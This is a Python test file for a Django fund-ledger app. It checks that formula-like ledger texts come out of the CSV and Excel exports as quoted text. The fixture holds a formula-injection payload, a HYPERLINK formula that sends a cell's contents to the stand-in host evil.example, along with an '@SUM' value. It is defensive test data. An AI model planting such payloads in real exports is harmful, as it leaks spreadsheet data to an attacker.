"""Issue 9, item 4: ledger texts that look like formulas come out of the CSV and Excel exports,
in the pages and the API, as text."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.test import Client

from sifra.funds.services import ledger_entry_post

ATTACK = '=HYPERLINK("https://evil.example/?x="&A2;"Klicka")'


@pytest.fixture
def entry(funded, coordinator):
    return ledger_entry_post(
        fund=funded,
        kind="deposit",
        amount=1_000_00,
        text=ATTACK,
        decision_ref="@SUM(A1:A9)",
        date=dt.date(2026, 2, 1),
        acting_user=coordinator,
    )


@pytest.fixture
def as_coordinator(coordinator):
    client = Client()
    client.force_login(coordinator)
    return client


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("url", ["/funds/{fund}/ledger.csv", "/api/funds/{fund}/ledger/export"])
def test_the_ledger_csv_quotes_formulas(as_coordinator, funded, entry, url):
    response = as_coordinator.get(url.format(fund=funded.pk))
    assert response.status_code == 200
    row = next(r for r in rows(response.content) if r[0] == str(entry.number))
    assert row[6] == "'" + ATTACK
    assert row[7] == "'@SUM(A1:A9)"
    assert not any(cell.startswith(("=", "+", "@")) for r in rows(response.content) for cell in r)


@pytest.mark.parametrize(
    "url", ["/funds/{fund}/ledger.xlsx", "/api/funds/{fund}/ledger/export?format=xlsx"]
)
def test_the_ledger_workbook_holds_formulas_as_text(as_coordinator, funded, entry, url):
    response = as_coordinator.get(url.format(fund=funded.pk))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    assert '<t>=HYPERLINK("https://evil.example/?x="&amp;A2;"Klicka")</t>' in strings
    assert "@SUM(A1:A9)" in strings
